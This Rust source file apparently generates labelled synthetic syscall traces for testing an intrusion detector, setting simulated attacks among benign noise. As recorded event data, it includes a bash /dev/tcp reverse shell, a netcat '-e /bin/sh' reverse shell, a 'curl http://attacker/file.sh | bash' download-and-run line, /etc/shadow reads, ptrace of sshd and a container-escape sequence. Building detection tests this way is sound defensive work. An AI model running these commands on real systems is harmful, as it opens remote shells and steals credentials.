//! Deterministic generators for attack and benign syscall traces.
//!
//! Every trace is built on the same small world: a host with sshd, cron and a
//! user session, and three containers (a Node.js web app, Redis, and a
//! privileged Alpine shell). Attack steps are embedded in benign noise drawn
//! from a fixed motif library (file I/O, sockets, thread clones, tool execs).

use std::collections::BTreeMap;

use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use super::trace::{ScenarioKind, ScenarioLabel, Trace};
use crate::event::{
    truncate_comm, ContainerContext, ContainerRegistry, NamespaceKind, ProcessInfo, RawEvent, SyscallArg,
};

const AT_FDCWD: i32 = -100;
const O_RDONLY: u64 = 0;
const O_CLOEXEC: u64 = 0o2000000;
const CLONE_CHILD: u64 = 0x0120_0011;
const CLONE_THREAD_FLAGS: u64 = 0x003d_0f00;
const CLONE_NEWNS: u64 = 0x0002_0000;
const CLONE_NEWUSER: u64 = 0x1000_0000;
const PTRACE_ATTACH: u64 = 16;
const PTRACE_SYSCALL: u64 = 24;
const FSCONFIG_SET_STRING: i64 = 1;
const AF_INET: i64 = 2;
const SOCK_STREAM: i64 = 1;
const SIGTERM: i64 = 15;

pub const CGROUP_WEB: u64 = 101;
pub const CGROUP_DB: u64 = 102;
pub const CGROUP_ALPINE: u64 = 103;
pub const CGROUP_HOST: u64 = 1;

pub const PID_SSHD: u32 = 812;
pub const PID_CRON: u32 = 900;
pub const PID_USER_SHELL: u32 = 2000;
pub const PID_NODE: u32 = 1100;
pub const PID_REDIS: u32 = 1200;
pub const PID_ALPINE_SHELL: u32 = 1300;

/// Benign file paths opened by background motifs.
const BENIGN_PATHS: &[&str] = &[
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/nsswitch.conf",
    "/etc/passwd",
    "/etc/ssl/certs/ca-certificates.crt",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/app/config.json",
    "/app/node_modules/express/index.js",
    "/var/log/app.log",
    "/var/lib/redis/dump.rdb",
    "/proc/self/status",
    "/proc/loadavg",
    "/tmp/cache.db",
    "/tmp/file",
];

/// Benign tools spawned by background motifs: (exe, argv).
const BENIGN_TOOLS: &[(&str, &[&str])] = &[
    ("/bin/ls", &["ls", "-la", "/app"]),
    ("/usr/bin/date", &["date", "+%s"]),
    ("/usr/bin/id", &["id", "-u"]),
    ("/bin/uname", &["uname", "-r"]),
    ("/usr/bin/du", &["du", "-k", "/var/log"]),
];

const BENIGN_PEERS: &[&str] = &["10.1.0.4:5432", "10.1.0.9:6379", "10.96.0.10:53", "10.1.0.12:8080"];

#[derive(Debug, Clone)]
struct Proc {
    pid: u32,
    uid: u32,
    cgroup: u64,
    comm: String,
    exe: String,
    ppid: u32,
}

struct Builder {
    rng: ChaCha8Rng,
    kind: ScenarioKind,
    registry: ContainerRegistry,
    events: Vec<RawEvent>,
    labels: BTreeMap<u64, ScenarioLabel>,
    clock_ns: u64,
    next_pid: u32,
    residents: Vec<Proc>,
}

impl Builder {
    fn new(kind: ScenarioKind, seed: u64) -> Builder {
        let mut b = Builder {
            rng: ChaCha8Rng::seed_from_u64(seed),
            kind,
            registry: ContainerRegistry::new(),
            events: Vec::new(),
            labels: BTreeMap::new(),
            clock_ns: 1_000_000,
            next_pid: 5000,
            residents: Vec::new(),
        };
        b.build_world();
        b
    }

    fn build_world(&mut self) {
        let ns = |base: u64| {
            [
                (NamespaceKind::Mnt, base),
                (NamespaceKind::Pid, base + 1),
                (NamespaceKind::Net, base + 2),
            ]
            .into_iter()
            .collect()
        };
        let mut web = ContainerContext::container("web-1", "node:18-alpine").with_pod("web-7d9f8");
        web.namespace_ids = ns(4026532200);
        let mut db = ContainerContext::container("db-1", "redis:7").with_pod("cache-0");
        db.namespace_ids = ns(4026532300);
        let mut alpine = ContainerContext::container("alpine-priv", "alpine:3.15");
        alpine.namespace_ids = ns(4026532400);
        self.registry.insert_container(CGROUP_WEB, web);
        self.registry.insert_container(CGROUP_DB, db);
        self.registry.insert_container(CGROUP_ALPINE, alpine);

        let world = [
            (1, 0, "systemd", "/usr/lib/systemd/systemd", 0, CGROUP_HOST),
            (300, 1, "containerd", "/usr/bin/containerd", 0, CGROUP_HOST),
            (PID_SSHD, 1, "sshd", "/usr/sbin/sshd", 0, CGROUP_HOST),
            (PID_CRON, 1, "cron", "/usr/sbin/cron", 0, CGROUP_HOST),
            (PID_USER_SHELL, PID_SSHD, "zsh", "/usr/bin/zsh", 1000, CGROUP_HOST),
            (
                1050,
                300,
                "containerd-shim",
                "/usr/bin/containerd-shim-runc-v2",
                0,
                CGROUP_HOST,
            ),
            (
                1051,
                300,
                "containerd-shim",
                "/usr/bin/containerd-shim-runc-v2",
                0,
                CGROUP_HOST,
            ),
            (
                1052,
                300,
                "containerd-shim",
                "/usr/bin/containerd-shim-runc-v2",
                0,
                CGROUP_HOST,
            ),
            (PID_NODE, 1050, "node", "/usr/local/bin/node", 1000, CGROUP_WEB),
            (
                PID_REDIS,
                1051,
                "redis-server",
                "/usr/local/bin/redis-server",
                999,
                CGROUP_DB,
            ),
            (PID_ALPINE_SHELL, 1052, "ash", "/bin/busybox", 0, CGROUP_ALPINE),
        ];
        for (pid, ppid, comm, exe, uid, cgroup) in world {
            self.registry
                .insert_process(ProcessInfo::new(pid, ppid, comm, exe, uid));
            if matches!(pid, PID_SSHD | PID_CRON | PID_NODE | PID_REDIS | 1) {
                self.residents.push(Proc {
                    pid,
                    uid,
                    cgroup,
                    comm: truncate_comm(comm),
                    exe: exe.into(),
                    ppid,
                });
            }
        }
    }

    fn resident(&self, pid: u32) -> Proc {
        self.residents
            .iter()
            .find(|p| p.pid == pid)
            .cloned()
            .unwrap_or_else(|| {
                let info = self.registry.process(pid).expect("world process");
                let cgroup = match pid {
                    PID_ALPINE_SHELL => CGROUP_ALPINE,
                    _ => CGROUP_HOST,
                };
                Proc {
                    pid,
                    uid: info.uid,
                    cgroup,
                    comm: info.comm.clone(),
                    exe: info.exe.clone(),
                    ppid: info.ppid,
                }
            })
    }

    fn emit(&mut self, p: &Proc, syscall: &str, args: Vec<SyscallArg>) -> u64 {
        let seq = self.events.len() as u64;
        self.clock_ns += self.rng.gen_range(1_000..40_000);
        let tid = p.pid;
        self.events.push(RawEvent {
            seq,
            timestamp_ns: self.clock_ns,
            syscall: syscall.to_string(),
            args,
            pid: p.pid,
            tid,
            uid: p.uid,
            cgroup_id: p.cgroup,
            comm: p.comm.clone(),
        });
        seq
    }

    fn mark(&mut self, seq: u64, step: &str, attack: bool, signature: bool) {
        self.labels.insert(
            seq,
            ScenarioLabel {
                scenario: self.kind,
                step: step.to_string(),
                attack,
                signature,
            },
        );
    }

    fn register(&mut self, p: &Proc) {
        self.registry
            .insert_process(ProcessInfo::new(p.pid, p.ppid, &p.comm, &p.exe, p.uid));
    }

    /// Forks a child of `parent`; returns the child and the clone event's seq.
    fn spawn(&mut self, parent: &Proc) -> (Proc, u64) {
        let seq = self.emit(parent, "clone", vec![SyscallArg::Flags(CLONE_CHILD)]);
        let child = Proc {
            pid: self.next_pid,
            ppid: parent.pid,
            ..parent.clone()
        };
        self.next_pid += 1;
        self.register(&child);
        (child, seq)
    }

    fn exec(&mut self, p: &mut Proc, exe: &str, argv: &[&str]) -> u64 {
        let seq = self.emit(
            p,
            "execve",
            vec![
                SyscallArg::Path(exe.to_string()),
                SyscallArg::StringList(argv.iter().map(|s| s.to_string()).collect()),
            ],
        );
        p.comm = truncate_comm(exe.rsplit('/').next().unwrap_or(exe));
        p.exe = exe.to_string();
        self.register(p);
        seq
    }

    fn openat(&mut self, p: &Proc, path: &str) -> u64 {
        self.emit(
            p,
            "openat",
            vec![
                SyscallArg::Fd(AT_FDCWD),
                SyscallArg::Path(path.to_string()),
                SyscallArg::Flags(O_RDONLY | O_CLOEXEC),
            ],
        )
    }

    fn open(&mut self, p: &Proc, path: &str) -> u64 {
        self.emit(
            p,
            "open",
            vec![SyscallArg::Path(path.to_string()), SyscallArg::Flags(O_RDONLY)],
        )
    }

    fn connect(&mut self, p: &Proc, peer: &str) -> (u64, u64) {
        let s = self.emit(
            p,
            "socket",
            vec![
                SyscallArg::Int(AF_INET),
                SyscallArg::Int(SOCK_STREAM),
                SyscallArg::Int(0),
            ],
        );
        let fd = self.rng.gen_range(3..64);
        let c = self.emit(
            p,
            "connect",
            vec![SyscallArg::Fd(fd), SyscallArg::Opaque(peer.as_bytes().to_vec())],
        );
        (s, c)
    }

    /// One benign motif from a random resident process.
    fn motif(&mut self) {
        let p = self.residents.choose(&mut self.rng).cloned().expect("residents");
        match self.rng.gen_range(0..100) {
            0..=54 => {
                let path = *BENIGN_PATHS.choose(&mut self.rng).unwrap();
                self.openat(&p, path);
            }
            55..=56 => {
                let path = *BENIGN_PATHS.choose(&mut self.rng).unwrap();
                self.open(&p, path);
            }
            57..=79 => {
                let peer = *BENIGN_PEERS.choose(&mut self.rng).unwrap();
                self.connect(&p, peer);
            }
            80..=94 => {
                self.emit(&p, "clone", vec![SyscallArg::Flags(CLONE_THREAD_FLAGS)]);
            }
            _ => {
                let (mut child, _) = self.spawn(&p);
                let (exe, argv) = *BENIGN_TOOLS.choose(&mut self.rng).unwrap();
                self.exec(&mut child, exe, argv);
                let path = *BENIGN_PATHS.choose(&mut self.rng).unwrap();
                self.openat(&child, path);
            }
        }
    }

    fn noise(&mut self, range: std::ops::Range<usize>) {
        let target = self.events.len() + self.rng.gen_range(range);
        while self.events.len() < target {
            self.motif();
        }
    }

    fn finish(self) -> Trace {
        Trace {
            registry: self.registry,
            events: self.events,
            labels: self.labels,
        }
    }
}

/// Builds the trace for `kind`. A pure function of `(kind, seed)`.
pub fn generate_scenario(kind: ScenarioKind, seed: u64) -> Trace {
    let mut b = Builder::new(kind, seed);
    b.noise(20..40);
    match kind {
        ScenarioKind::ReverseShellBash => reverse_shell_bash(&mut b),
        ScenarioKind::ReverseShellNc => reverse_shell_nc(&mut b),
        ScenarioKind::SensitiveFileRead => sensitive_file_read(&mut b),
        ScenarioKind::ContainerEscapeFsconfig => container_escape(&mut b),
        ScenarioKind::PtraceAbuse => ptrace_abuse(&mut b),
        ScenarioKind::FilelessExecution => fileless(&mut b),
        ScenarioKind::BenignAdminScript => admin_script(&mut b),
        ScenarioKind::BenignBackground => {
            let seq = b.events.len() as u64 - 1;
            b.mark(seq, "background", false, true);
            // sshd verifying a login on the host reads the shadow file.
            let sshd = b.resident(PID_SSHD);
            b.open(&sshd, "/etc/shadow");
            b.noise(300..400);
        }
    }
    b.noise(10..25);
    b.finish()
}

fn reverse_shell_bash(b: &mut Builder) {
    let node = b.resident(PID_NODE);
    let (mut shell, fork) = b.spawn(&node);
    b.mark(fork, "fork", true, false);
    let exec = b.exec(
        &mut shell,
        "/bin/bash",
        &["bash", "-i", ">&", "/dev/tcp/10.0.0.5/4444", "0>&1"],
    );
    b.mark(exec, "exec-reverse-shell", true, true);
    b.noise(2..5);
    let (s, c) = b.connect(&shell, "10.0.0.5:4444");
    b.mark(s, "socket", true, false);
    b.mark(c, "connect-c2", true, false);
    let read = b.openat(&shell, "/etc/passwd");
    b.mark(read, "recon", true, false);
}

fn reverse_shell_nc(b: &mut Builder) {
    let node = b.resident(PID_NODE);
    let (mut nc, fork) = b.spawn(&node);
    b.mark(fork, "fork", true, false);
    let exec = b.exec(&mut nc, "/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.5", "4444"]);
    b.mark(exec, "exec-netcat", true, true);
    b.noise(2..5);
    let (s, c) = b.connect(&nc, "10.0.0.5:4444");
    b.mark(s, "socket", true, false);
    b.mark(c, "connect-c2", true, false);
    let (mut sh, fork) = b.spawn(&nc);
    b.mark(fork, "fork-shell", true, false);
    let exec = b.exec(&mut sh, "/bin/sh", &["/bin/sh"]);
    b.mark(exec, "exec-shell", true, false);
}

fn sensitive_file_read(b: &mut Builder) {
    // Path traversal in the web app reads the shadow file directly.
    let node = b.resident(PID_NODE);
    let seq = b.open(&node, "/etc/shadow");
    b.mark(seq, "read-shadow", true, true);
}

fn container_escape(b: &mut Builder) {
    let ash = b.resident(PID_ALPINE_SHELL);
    let (mut exploit, fork) = b.spawn(&ash);
    b.mark(fork, "fork", true, false);
    let exec = b.exec(&mut exploit, "./exploit_fsconfig", &["./exploit_fsconfig"]);
    b.mark(exec, "launch-exploit", true, false);
    let seq = b.emit(
        &exploit,
        "unshare",
        vec![SyscallArg::Flags(CLONE_NEWUSER | CLONE_NEWNS)],
    );
    b.mark(seq, "unshare", true, false);
    let fsconfig = |value: Vec<u8>| {
        vec![
            SyscallArg::Fd(3),
            SyscallArg::Int(FSCONFIG_SET_STRING),
            SyscallArg::Opaque(b"source".to_vec()),
            SyscallArg::Opaque(value),
            SyscallArg::Int(0),
        ]
    };
    let seq = b.emit(&exploit, "fsconfig", fsconfig(b"none".to_vec()));
    b.mark(seq, "fsconfig-prepare", true, false);
    let len = b.rng.gen_range(4097..4400);
    let seq = b.emit(&exploit, "fsconfig", fsconfig(vec![b'A'; len]));
    b.mark(seq, "fsconfig-overflow", true, true);
    for _ in 0..3 {
        let seq = b.emit(&exploit, "fsconfig", fsconfig(vec![b'B'; 1024]));
        b.mark(seq, "heap-spray", true, false);
    }
    let seq = b.emit(&exploit, "setuid", vec![SyscallArg::Int(0)]);
    b.mark(seq, "setuid-root", true, false);
    let seq = b.emit(
        &exploit,
        "mount",
        vec![
            SyscallArg::Path("/dev/vda1".into()),
            SyscallArg::Path("/mnt/host".into()),
            SyscallArg::Opaque(b"ext4".to_vec()),
            SyscallArg::Flags(0),
            SyscallArg::Opaque(Vec::new()),
        ],
    );
    b.mark(seq, "mount-host", true, false);
    let (mut sh, fork) = b.spawn(&exploit);
    b.mark(fork, "fork-shell", true, false);
    let exec = b.exec(&mut sh, "/bin/sh", &["/bin/sh"]);
    b.mark(exec, "host-shell", true, false);
}

fn ptrace_abuse(b: &mut Builder) {
    let user = b.resident(PID_USER_SHELL);
    let (mut strace, fork) = b.spawn(&user);
    b.mark(fork, "fork", true, false);
    let target = PID_SSHD.to_string();
    let exec = b.exec(&mut strace, "/usr/bin/strace", &["strace", "-p", &target]);
    b.mark(exec, "exec-strace", true, false);
    let seq = b.emit(
        &strace,
        "ptrace",
        vec![SyscallArg::Flags(PTRACE_ATTACH), SyscallArg::Int(PID_SSHD as i64)],
    );
    b.mark(seq, "ptrace-attach-root", true, true);
    for _ in 0..3 {
        let seq = b.emit(
            &strace,
            "ptrace",
            vec![SyscallArg::Flags(PTRACE_SYSCALL), SyscallArg::Int(PID_SSHD as i64)],
        );
        b.mark(seq, "ptrace-snoop", true, false);
    }
}

fn fileless(b: &mut Builder) {
    let node = b.resident(PID_NODE);
    let (mut sh, fork) = b.spawn(&node);
    b.mark(fork, "fork", true, false);
    let exec = b.exec(&mut sh, "/bin/sh", &["sh", "-c", "curl http://attacker/file.sh | bash"]);
    b.mark(exec, "exec-pipeline", true, false);
    let (mut curl, fork) = b.spawn(&sh);
    b.mark(fork, "fork-curl", true, false);
    let exec = b.exec(&mut curl, "/usr/bin/curl", &["curl", "http://attacker/file.sh"]);
    b.mark(exec, "exec-curl", true, false);
    let (s, c) = b.connect(&curl, "203.0.113.10:80");
    b.mark(s, "socket", true, false);
    b.mark(c, "download", true, false);
    let (mut bash, fork) = b.spawn(&sh);
    b.mark(fork, "fork-bash", true, false);
    let exec = b.exec(&mut bash, "/bin/bash", &["bash"]);
    b.mark(exec, "pipe-to-bash", true, true);
    let seq = b.openat(&bash, "/tmp/.cache-payload");
    b.mark(seq, "payload", true, false);
}

fn admin_script(b: &mut Builder) {
    // A root health check traces its own worker after the worker dropped
    // privileges: caller root, target owned by uid 33.
    let cron = b.resident(PID_CRON);
    let (mut check, fork) = b.spawn(&cron);
    b.mark(fork, "fork", false, false);
    let exec = b.exec(&mut check, "/usr/local/bin/healthcheck", &["healthcheck", "--deep"]);
    b.mark(exec, "start", false, false);
    b.openat(&check, "/proc/loadavg");
    b.openat(&check, "/proc/meminfo");
    let (mut worker, _) = b.spawn(&check);
    b.emit(&worker, "setuid", vec![SyscallArg::Int(33)]);
    worker.uid = 33;
    b.register(&worker);
    b.exec(
        &mut worker,
        "/usr/local/bin/probe-worker",
        &["probe-worker", "--single-pass"],
    );
    b.openat(&worker, "/var/lib/probe/state");
    b.noise(2..5);
    let seq = b.emit(
        &check,
        "ptrace",
        vec![SyscallArg::Flags(PTRACE_ATTACH), SyscallArg::Int(worker.pid as i64)],
    );
    b.mark(seq, "trace-worker", false, true);
    b.openat(&check, &format!("/proc/{}/status", worker.pid));
    b.emit(
        &check,
        "kill",
        vec![SyscallArg::Int(worker.pid as i64), SyscallArg::Int(SIGTERM)],
    );
}

/// A long mixed workload for throughput runs: mostly background motifs with
/// occasional attack motifs (about one in five hundred), each from a fresh
/// process so enforcement never silences the residents.
pub fn generate_workload(event_count: usize, seed: u64) -> Trace {
    let mut b = Builder::new(ScenarioKind::BenignBackground, seed);
    let mut round = 0usize;
    while b.events.len() < event_count {
        if b.rng.gen_range(0..500) == 0 {
            match round % 4 {
                0 => {
                    b.kind = ScenarioKind::ReverseShellBash;
                    reverse_shell_bash(&mut b);
                }
                1 => {
                    b.kind = ScenarioKind::SensitiveFileRead;
                    sensitive_file_read(&mut b);
                }
                2 => {
                    b.kind = ScenarioKind::PtraceAbuse;
                    ptrace_abuse(&mut b);
                }
                _ => {
                    b.kind = ScenarioKind::ContainerEscapeFsconfig;
                    container_escape(&mut b);
                }
            }
            round += 1;
        } else {
            b.motif();
        }
    }
    b.events.truncate(event_count);
    b.labels.retain(|seq, _| *seq < event_count as u64);
    b.finish()
}
